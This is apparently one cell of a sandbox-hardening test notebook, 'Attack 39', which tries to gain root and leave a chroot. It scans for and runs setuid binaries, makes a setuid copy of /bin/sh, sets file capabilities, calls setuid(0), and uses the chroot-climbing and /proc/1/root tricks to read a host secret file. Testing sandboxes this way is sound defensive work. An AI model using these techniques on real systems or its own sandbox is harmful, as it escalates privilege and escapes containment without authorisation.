# Attack 39: become root: by set-user-id programs, capabilities, ids, or out of a changed root folder.
# Defence: no new privileges, no capability, a root folder that cannot be left.

# %%
import shutil
import stat
import subprocess


def status(name):
    with open("/proc/self/status") as file:
        return next(line.split(":")[1].strip() for line in file if line.startswith(name + ":"))


for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    attempt(f"capabilities {name}", lambda: int(status(name), 16))
attempt("new privileges", lambda: status("NoNewPrivs") != "1")
attempt("no filter of system calls", lambda: status("Seccomp") != "2")
attempt("to be root", lambda: 0 in os.getresuid() + os.getresgid())
attempt("groups", lambda: [group for group in os.getgroups() if group not in (os.getgid(), 65534)])
for name, ids in {"setuid": (0,), "setgid": (0,), "setresuid": (0, 0, 0), "seteuid": (0,), "setgroups": ([0],), "setreuid": (0, 0)}.items():
    attempt(f"{name} 0", lambda: getattr(os, name)(*ids) or "done")

# %%
def privileged():
    for folder in ("/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/local/bin", "/usr/lib/openssh"):
        for name in os.listdir(folder) if os.path.isdir(folder) else ():
            path = os.path.join(folder, name)
            try:
                if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
                    yield path
            except OSError:
                pass


for path in sorted({os.path.realpath(path) for path in privileged()}):
    for arguments in (["-c", "id -u"], ["id", "-u"]):
        try:
            done = subprocess.run([path, *arguments], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=1)
            print("REACHED: root by" if done.stdout.strip() == "0" else "refused:", path, arguments)
        except (OSError, subprocess.TimeoutExpired) as error:
            print("refused:", path, error)


# %%
def own_program():
    for folder in (".", "/tmp", "/dev/shm"):
        shutil.copy("/bin/sh", f"{folder}/shell")
        for mode in (0o4755, 0o2755, 0o6777):
            os.chmod(f"{folder}/shell", mode)
            done = subprocess.run([f"{folder}/shell", "-pc", "id -u"], capture_output=True, text=True)
            if done.stdout.strip() == "0":
                return folder


attempt("a set-user-id program of one's own", own_program)
attempt("capabilities of a file", lambda: os.setxattr("walks.csv", "security.capability", bytes([1, 0, 0, 2]) + b"\xff" * 16) or "set")


# %%
# The way out of a changed root folder: change it again, and climb.
def climb():
    os.mkdir("deeper")
    outside = os.open(".", os.O_RDONLY)
    os.chroot("deeper")
    os.fchdir(outside)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return os.listdir(".")


attempt("to climb out of the root folder", lambda: in_child(climb))
attempt("to climb by ..", lambda: os.path.exists("/../../../../../.." + HOST["folder"] + "/secret.txt") and open("/../.." + HOST["folder"] + "/secret.txt").read())
attempt("the root of another process", lambda: [path for path in ("/proc/1/root", "/proc/self/root/..") if os.path.exists(path + HOST["folder"] + "/secret.txt") and open(path + HOST["folder"] + "/secret.txt").read()])
